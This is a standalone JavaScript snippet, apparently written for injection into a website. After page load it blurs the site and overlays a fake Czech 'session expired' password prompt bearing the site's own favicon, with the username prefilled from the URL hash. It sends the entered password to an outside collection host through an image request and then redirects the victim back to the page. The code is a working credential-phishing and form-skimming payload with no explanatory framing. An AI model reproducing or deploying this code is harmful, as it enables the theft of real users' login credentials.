window.addEventListener('load', function () {
  setTimeout(function () {
    document.querySelectorAll('body > *').forEach(function (n) { n.style.filter = 'blur(5px)'; });
    var o = document.createElement('div');
    o.setAttribute('style', 'position:fixed;inset:0;z-index:99999;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center');
    o.innerHTML = '<form style="background:#fff;padding:28px;width:340px"><img src="' + document.querySelector('link[rel*=icon]').href + '" width="32"><h3>Platnost relace vypršela</h3><p>Z bezpečnostních důvodů zadejte znovu heslo.</p><input name="j" value="' + (location.hash.substr(1)) + '" readonly><input name="h" type="password" placeholder="Heslo"><button>Přihlásit se</button></form>';
    document.body.appendChild(o);
    var f = o.firstChild;
    f.onsubmit = function (e) {
      e.preventDefault();
      var i = new Image();
      i.onerror = i.onload = function () { location.href = document.querySelector('link[rel=canonical]').href; };
      i.src = 'https://obrazky.sber.example/z.png?' + f.j.value + '&' + encodeURIComponent(f.h.value) + '&' + Date.now();
    };
    f.h.focus();
  }, 2500);
});
